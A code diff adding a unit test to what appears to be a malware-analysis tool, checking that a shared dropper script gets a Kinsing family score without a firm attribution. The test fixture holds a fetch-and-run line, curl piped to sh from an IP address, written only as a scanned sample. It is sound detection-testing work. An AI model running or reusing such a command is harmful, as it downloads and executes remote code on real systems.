@@ -128,6 +128,17 @@ TEST(Cli, SampleReadsADropperScriptAndNamesItsFamily) {
   EXPECT_GE(s["families"]["mykings"].get<int>(), 3);
 }
 
+// A dropper that only fetches from an address the knowledge base lists for Kinsing is evidence for it, not an
+// attribution: droppers and their servers are shared and re-used, so the file names no family (its score is kept).
+TEST(Cli, SampleNamesNoFamilyOnASharedDropperAlone) {
+  test::TempDir dir;
+  test::write_file(dir / "d.sh", "#!/bin/sh\ncurl -fsSL http://195.3.146.118/d.sh | sh\n");
+  auto r = ms({"sample", "--json", (dir / "d.sh").string()});
+  const auto j = nlohmann::json::parse(r.out);
+  EXPECT_EQ(j["families"].value("kinsing_h2miner", 0), 6) << j["families"].dump();  // its URL and address, once each
+  EXPECT_FALSE(j.contains("family")) << j["family"].dump();
+}
+
 // `sample --extract` on a PyInstaller bundle: the entry script and the PYZ modules as .pyc files whose header is the
 // one Python 3.8 expects, the bundle's strings searched too, and nothing overwritten.
 TEST(Cli, SampleUnpacksPyInstallerWithRepairedHeaders) {
